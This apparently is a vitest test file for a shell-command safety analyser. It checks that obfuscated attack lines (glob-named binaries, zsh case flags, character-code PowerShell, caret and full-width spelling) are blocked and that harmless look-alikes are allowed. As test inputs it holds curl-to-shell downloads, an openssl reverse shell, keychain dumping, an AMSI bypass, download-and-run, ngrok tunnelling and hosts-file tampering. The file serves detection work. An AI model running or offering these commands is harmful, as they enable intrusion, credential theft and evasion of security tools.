/**
 * Escapes left by round 3 of the mutation fuzzer (a technique rewritten in an equivalent way the analysis did not
 * follow), each with a look-alike that must stay allowed. The whole engine decides, as for a terminal line.
 */
import { describe, expect, it } from 'vitest';
import { analyse } from '../analysis/analyse';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

function codes(text: string, shell: Shell): string[] {
  return evaluateLine(text, shell).reasons.map((r) => r.code);
}

describe('zsh case-changing parameter flags', () => {
  it('reads ${(L)x} and ${(U)x} as the variable’s value in that case', () => {
    expect(analyse('zqv=CURL\n${(L)zqv} -s http://203.0.113.40/m', 'zsh', 'macos').commands.map((c) => c.name)).toContain('curl');
    expect(decision('zqv=CuRL\n${(L)zqv} -fsSL https://203.0.113.40/install.sh | zsh', 'zsh')).toBe('block');
    expect(decision('zqv=SECuriTY\n${(L)zqv} dump-keychain -d ~/Library/Keychains/login.keychain-db', 'zsh')).toBe('block');
    expect(decision('zqv=sudo\n${(U)zqv:-x} ls', 'zsh')).toBe('allow');
  });

  it('leaves ordinary flagged expansions alone', () => {
    expect(decision('name=Report\nprint ${(L)name}.txt', 'zsh')).toBe('allow');
    expect(decision('dir=LOGS\nls /var/${(L)dir}', 'zsh')).toBe('allow');
  });
});

describe('glob command names', () => {
  it('resolves a glob to the program it matches, wrappers included', () => {
    expect(
      decision('/???/bin/m???f? /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:4444 > /tmp/s', 'bash'),
    ).toBe('block');
    expect(decision("/???/bin/noh?p sh -c 'curl -s http://198.51.100.7/s | sh' >/dev/null 2>&1 &", 'bash')).toBe('block');
    expect(decision('/???/bin/tou?h -r /bin/ls /tmp/.x', 'bash')).not.toBe('allow');
  });

  it('a glob that matches nothing known only hides a name (noted, not a technique)', () => {
    expect(decision('ls /var/log/*.log', 'bash')).toBe('allow');
    expect(decision('touch /tmp/build.stamp', 'bash')).toBe('allow');
  });
});

describe('PowerShell strings from character codes', () => {
  const amsi =
    "[Ref].Assembly.GetType((-join (83,121,115,116,101,109,46,77,97,110,97,103,101,109,101,110,116,46,65,117,116,111,109,97,116,105,111,110,46 | % {[char]$_}))+'Amsi'+(-join (85,116,105,108,115 | % {[char]$_}))).GetField((-join [char[]]@(97,109,115,105,73,110,105,116))+(-join [char[]]@(70,97,105,108,101,100)),(-join [char[]]@(78,111,110,80,117,98,108,105,99,44,83,116,97,116,105,99))).SetValue($null,$true)";

  it('folds a group that joins codes in a pipeline, and [string]::new of a char array', () => {
    expect(decision(amsi, 'powershell')).toBe('block');
    expect(codes(amsi, 'powershell')).toContain('defense_evasion');
    const built =
      "[Ref].Assembly.GetType([string]::new([char[]]@(83,121,115,116,101,109,46,77,97,110,97,103,101,109,101,110,116,46,65,117,116,111,109,97,116,105,111,110,46,65,109,115,105,85,116,105,108,115))).GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)";
    expect(decision(built, 'powershell')).toBe('block');
  });

  it('[string]::new of a character and a count repeats it; ordinary uses stay allowed', () => {
    const doc = analyse("Write-Output ([string]::new('=', 3) + 'x')", 'powershell', 'windows');
    expect(doc.commands.some((c) => c.words.some((w) => w.value.includes('===x')))).toBe(true);
    expect(decision("$line = [string]::new('-', 40); Write-Host $line", 'powershell')).toBe('allow');
    expect(decision('$name = -join (72,101,108,108,111 | % {[char]$_}); Write-Output $name', 'powershell')).toBe('allow');
  });
});

describe('download destinations given by Join-Path', () => {
  it('a file saved under (Join-Path …) and then run is a download run', () => {
    expect(
      decision(
        "(New-Object -TypeName System.Net.WebClient).DownloadFile('http://198.51.100.7/a.ps1',(Join-Path $PWD 'a.ps1')); .\\a.ps1",
        'powershell',
      ),
    ).toBe('block');
    expect(decision('iwr http://198.51.100.7/a.exe -OutFile (Join-Path $env:TEMP \'a.exe\'); & "$env:TEMP\\a.exe"', 'powershell')).toBe(
      'block',
    );
  });

  it('saved and only hashed or read stays allowed', () => {
    expect(
      decision('iwr https://198.51.100.7/a.exe -OutFile (Join-Path $env:TEMP \'a.exe\'); Get-FileHash "$env:TEMP\\a.exe"', 'powershell'),
    ).toBe('allow');
  });
});

describe('Start-Process parameters by any unambiguous prefix', () => {
  it('skips the value of an abbreviated parameter to find the program', () => {
    expect(
      decision(
        'Start-Process -WindowS Hidden "$env:LOCALAPPDATA\\ngrok\\ngrok.exe" -ArgumentList \'tcp 3389 --authtoken 2abcDEF\'',
        'powershell',
      ),
    ).not.toBe('allow');
    expect(decision('Start-Process -ea 0 -Wo C:\\Tools anydesk.exe', 'powershell')).toBe('block');
  });

  it('an ambiguous prefix binds nothing, and ordinary starts stay allowed', () => {
    expect(decision('Start-Process -FilePath notepad.exe -WindowStyle Maximized', 'powershell')).toBe('allow');
    expect(decision('Start-Process -Wait msiexec.exe -ArgumentList "/x {1234} /qn"', 'powershell')).toBe('allow');
  });
});

describe('deobfuscated redirect targets and normalised script-block text', () => {
  it('a hosts file spelt with carets is still the hosts file', () => {
    expect(
      decision(
        'ec^h^o 0.^0.^0^.^0 w^d^c^p^.^m^i^crosof^t^.^c^om >> C:^\\W^i^n^d^ows\\^Sy^s^t^e^m^3^2^\\^dr^i^v^e^r^s\\^etc^\\^ho^st^s',
        'cmd',
      ),
    ).toBe('flag');
    expect(decision('echo 10.0.0.5 fileserver.corp.local >> C:\\W^indows\\System32\\drivers\\etc\\hosts', 'cmd')).toBe('allow');
  });

  it('odbcconf’s {REGSVR …} in full-width letters is the same call', () => {
    expect(decision('ｏｄbｃcｏｎｆ.exｅ /a {ＲEＧSVＲ C:\\Users\\Public\\payload.dll}', 'powershell')).toBe('block');
  });
});

describe('functions that forward their arguments', () => {
  it('keep each argument one word when the call is read through the function', () => {
    expect(decision('hostname() { command python3 "$@"; }\nhostname -c \'import os; os.system("/bin/sh")\'', 'bash')).toBe('block');
    expect(decision('echo() { command awk "$@"; }\necho \'BEGIN{system("curl -s http://198.51.100.7/s|sh")}\'', 'bash')).toBe('block');
  });

  it('an ordinary wrapper function stays allowed', () => {
    expect(decision('logs() { command journalctl -u "$@"; }\nlogs nginx --since "1 hour ago"', 'bash')).toBe('allow');
    expect(decision('g() { command grep -rn "$@"; }\ng \'a b\' /var/log/app', 'bash')).toBe('allow');
  });
});
